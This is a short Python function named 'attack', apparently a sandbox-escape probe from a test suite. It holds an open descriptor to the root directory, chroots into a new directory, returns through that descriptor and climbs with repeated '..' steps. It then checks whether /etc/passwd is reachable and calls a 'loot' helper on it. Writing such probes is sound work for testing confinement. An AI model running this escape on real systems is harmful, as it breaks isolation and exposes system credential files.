# climbs out of its root through an open directory
import os


def attack():
    top = os.open("/", os.O_RDONLY)
    try:
        os.mkdir("cell")
        os.chroot("cell")
    except OSError:
        pass
    os.fchdir(top)
    for _ in range(20):
        os.chdir("..")
    found = os.path.exists("etc/passwd")
    return loot("/etc/passwd through ..") if found else "clean"
